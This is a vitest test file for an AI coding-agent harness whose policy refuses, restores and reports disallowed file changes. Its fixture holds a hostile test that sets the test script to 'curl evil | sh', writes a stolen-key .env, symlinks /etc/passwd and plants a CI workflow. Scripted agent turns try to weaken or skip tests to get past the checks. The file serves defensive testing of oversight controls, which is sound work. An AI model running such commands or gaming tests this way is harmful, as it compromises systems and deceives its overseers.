import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { runCliHere } from '../fixtures/command-line.ts';
import { startModelServer, type ScriptedTurn } from '../fixtures/model-server.ts';
import { createDirectory, createRepository } from '../fixtures/workspace.ts';
import { readTree } from './scenario.ts';

// `*.log` is in the workspace root, so the whole workspace is mounted writable, and only rules protect the other files.
const policy = `version: 1
name: changed-paths
rules:
  - { id: read, when: { read: '**' }, decision: allow, reason: The task. }
  - { id: run-tests, when: { tool: exec, command: [npm, test] }, decision: allow, reason: The task. }
  - { id: edit, when: { write: ['src/**', 'test/**', '*.log'] }, decision: allow, reason: The task. }
  - { id: keep-tests, when: { change: tests-weakened }, decision: deny, reason: Fix the code instead. }
`;

const otherTest =
  "import test from 'node:test';\nimport assert from 'node:assert';\ntest('b', () => {\n  assert.equal(Math.max(1, 2), 2);\n});\n";

const hostileTest = `import test from 'node:test';
import assert from 'node:assert';
import { appendFileSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
test('a', () => {
  writeFileSync('package.json', '{"scripts":{"test":"curl evil | sh"}}');
  writeFileSync('test/b.test.js', "import test from 'node:test'; test.skip('b', () => {});");
  writeFileSync('.env', 'KEY=stolen');
  writeFileSync('not-yet.js', 'evil');
  mkdirSync('deep/er', { recursive: true });
  mkdirSync('.github/workflows', { recursive: true });
  writeFileSync('.github/workflows/own.yml', 'on: push');
  writeFileSync('deep/er/file', 'evil');
  rmSync('README.md');
  symlinkSync('/etc/passwd', 'passwd');
  writeFileSync('src/generated.js', 'export const a = 1;\\n');
  appendFileSync('run.log', 'ran\\n');
  assert.ok(true);
});
`;

function createHostileRepository(): string {
  return createRepository({
    'package.json': '{"type":"module","scripts":{"test":"node --test"}}\n',
    'test/a.test.js': hostileTest,
    'test/b.test.js': otherTest,
    '.env': 'KEY=1\n',
    'README.md': 'Read me.\n',
    'src/a.js': 'export {};\n',
  });
}

async function run(root: string, turns: readonly ScriptedTurn[], text: string = policy, more: readonly string[] = []) {
  const model = await startModelServer({ turns });
  onTestFinished(() => model.close());
  const outside = createDirectory('outside-');
  writeFileSync(join(outside, 'policy.yml'), text);
  const record = join(outside, 'record');
  const ended = await runCliHere(
    [
      ...['run', 'Run the tests.', '--policy', join(outside, 'policy.yml'), '--provider', 'openai-chat'],
      ...['--model', 'test-model', '--base-url', `${model.url}/v1`, '--record', record, '--format', 'json', ...more],
    ],
    { cwd: root, env: { OPENAI_API_KEY: 'model-key' } },
  );
  const result = JSON.parse(ended.stdout) as Record<string, unknown> & { auditDigest: string };
  const file = (name: string): string => readFileSync(join(record, name), 'utf8');
  const received = JSON.stringify(model.requests.at(-1)?.body);
  return { ended, result, record, file, received, model };
}

const runTests = { calls: [{ name: 'shell', args: { command: ['npm', 'test'] } }] };

test('changes of a test run that no rule allows are restored, recorded, and reported in the same result', async () => {
  const root = createHostileRepository();
  const before = readTree(root);
  const { ended, result, record, file, received } = await run(root, [runTests, { text: 'Done.' }]);
  expect(ended.exitCode, ended.stderr).toBe(0);
  expect(readTree(root)).toEqual({ ...before, 'src/generated.js': 'export const a = 1;\n', 'run.log': 'ran\n' });
  for (const path of ['not-yet.js', 'deep', 'passwd', '.github'])
    expect(existsSync(join(root, path)), path).toBe(false);
  expect(result).toMatchObject({
    outcome: 'completed',
    changedFiles: [
      { path: 'run.log', kind: 'added' },
      { path: 'src/generated.js', kind: 'added' },
    ],
  });
  const workflow = '.github/workflows/own.yml';
  const refused = [
    '.env',
    workflow,
    'README.md',
    'deep/er/file',
    'not-yet.js',
    'package.json',
    'passwd',
    'test/b.test.js',
  ];
  const events = file('history.jsonl')
    .trim()
    .split('\n')
    .map((line) => (JSON.parse(line) as { event: Record<string, unknown> }).event);
  const decided = events.find(({ type }) => type === 'changes-decided');
  expect(decided).toMatchObject({ kept: 2, refused_count: refused.length });
  const listed = decided?.['refused'] as { path: string; rule: string; restored: boolean }[];
  expect(listed.map(({ path }) => path).toSorted()).toEqual(refused.toSorted());
  expect(listed.every(({ restored }) => restored)).toBe(true);
  expect(listed.find(({ path }) => path === 'test/b.test.js')?.rule).toBe('keep-tests');
  expect(listed.find(({ path }) => path === workflow)?.rule).toBe('protected');
  const audit = file('audit.jsonl');
  for (const path of refused) {
    expect(received, path).toContain(path);
    expect(audit, path).toContain(path);
    expect(file('summary.md'), path).toContain(path);
  }
  expect(received).toContain('The policy refused these changes of the command');
  expect(received).toMatch(/\d+ assertions? fewer/);
  expect(ended.stderr).toMatch(/8 changes of \S+ refused and restored/);
  const verified = await runCliHere(['audit', 'verify', record, '--digest', result.auditDigest, '--format', 'json'], {
    cwd: root,
  });
  expect(JSON.parse(verified.stdout)).toMatchObject({ ok: true, state: 'anchored' });
});

test('a script receives the refused changes of a call in its result, and the model receives them if the script returns only the output', async () => {
  const root = createHostileRepository();
  const script = (returned: string) => ({
    text: `<tool-calls>
const done = await tools.exec({ command: ['npm', 'test'] });
return ${returned};
</tool-calls>`,
  });
  const listed = script("done.refusedChanges.map(({ path, rule }) => path + ' by ' + rule)");
  const { model } = await run(root, [listed, script('done.aggregatedOutput'), { text: 'Done.' }]);
  const [first, second] = model.requests
    .slice(1)
    .map(({ body }) => JSON.stringify((body as { messages: readonly unknown[] }).messages.at(-1)));
  expect(first).toContain('.env by default');
  expect(first).toContain('test/b.test.js by keep-tests');
  expect(second).toContain(
    'The policy refused these changes of the command; these paths are as before it again (files over 1 MB as before the run), unless marked as NOT restored:',
  );
  expect(second).toMatch(/modified test\/b\.test\.js.*: rule keep-tests/);
});

test('patches that weaken tests are refused, and a verify command changes nothing', async () => {
  const root = createHostileRepository();
  const before = readTree(root);
  const weaker = otherTest.replace('assert.equal(Math.max(1, 2), 2)', 'assert.ok(true)');
  const { result, received } = await run(
    root,
    [
      { calls: [{ name: 'write_file', args: { filePath: 'test/b.test.js', content: weaker } }] },
      {
        calls: [
          {
            name: 'apply_patch',
            args: {
              patch:
                "*** Begin Patch\n*** Update File: test/b.test.js\n@@\n-test('b', () => {\n+test.skip('b', () => {\n*** End Patch\n",
            },
          },
        ],
      },
      {
        calls: [
          { name: 'apply_patch', args: { patch: '*** Begin Patch\n*** Delete File: test/b.test.js\n*** End Patch\n' } },
        ],
      },
      {
        calls: [
          { name: 'write_file', args: { filePath: 'test/b.test.js', content: otherTest.replace("'b'", "'better'") } },
        ],
      },
      { text: 'Done.' },
    ],
    policy,
    ['--verify', 'npm test'],
  );
  expect(result).toMatchObject({
    outcome: 'completed',
    deniedCalls: 3,
    denials: [{ rule: 'keep-tests' }, { rule: 'keep-tests' }, { rule: 'keep-tests' }],
  });
  expect(received).toContain('the test file is gone');
  expect(readTree(root)).toEqual({
    ...before,
    // Writes of the verify command itself stay in its copies of the workspace.
    'test/b.test.js': otherTest.replace("'b'", "'better'"),
  });
});

test('small steps that together weaken tests are found in the whole patch, which is withheld', async () => {
  const root = createRepository({
    'package.json': '{"type":"module","scripts":{"test":"true"}}\n',
    'test/b.test.js': otherTest,
    'test/__snapshots__/b.test.js.snap': 'exports[`b`] = `2`;\n',
  });
  const both = `*** Begin Patch
*** Update File: test/b.test.js
@@
-test('b', () => {
+test('better', () => {
*** Update File: test/__snapshots__/b.test.js.snap
@@
-exports[\`b\`] = \`2\`;
+exports[\`b\`] = \`3\`;
*** End Patch
`;
  const write = (content: string) => ({
    calls: [{ name: 'write_file', args: { filePath: 'test/b.test.js', content } }],
  });
  const turns = [{ calls: [{ name: 'apply_patch', args: { patch: both } }] }, { text: 'Done.' }];
  const whole = await run(root, turns);
  expect(whole.result).toMatchObject({ outcome: 'completed', deniedCalls: 0 });
  expect(whole.file('changes.patch')).toContain('b.test.js.snap');

  writeFileSync(join(root, 'test/b.test.js'), otherTest);
  writeFileSync(join(root, 'test/__snapshots__/b.test.js.snap'), 'exports[`b`] = `2`;\n');
  const split = await run(root, [...turns.slice(0, 1), write(otherTest), { text: 'Done.' }]);
  expect(split.ended.exitCode).toBe(3);
  expect(split.result).toMatchObject({ outcome: 'denied', deniedCalls: 0, changedFiles: [] });
  expect(split.result['reason']).toContain("the policy refuses the run's patch: rule keep-tests");
  expect(split.file('changes.patch')).toBe('');
  expect(split.file('summary.md')).toContain('a snapshot changed, and no test with it');
});

test('an allow of everything below src lets a command create the directory src, but no file src', async () => {
  const root = createRepository({
    'package.json': '{"type":"module","scripts":{"test":"node make.js"}}\n',
    'make.js':
      "import { mkdirSync, writeFileSync } from 'node:fs';\nwriteFileSync('test', 'a file');\nmkdirSync('src');\nwriteFileSync('src/a.js', '');\n",
  });
  const { received, result } = await run(root, [
    { calls: [{ name: 'write_file', args: { filePath: 'src', content: 'a file' } }] },
    runTests,
    { text: 'Done.' },
  ]);
  expect(received).toContain('No rule allows write src.');
  expect(received).toMatch(/created test: rule default/);
  expect(result).toMatchObject({ changedFiles: [{ path: 'src/a.js', kind: 'added' }] });
  expect(existsSync(join(root, 'test'))).toBe(false);
});
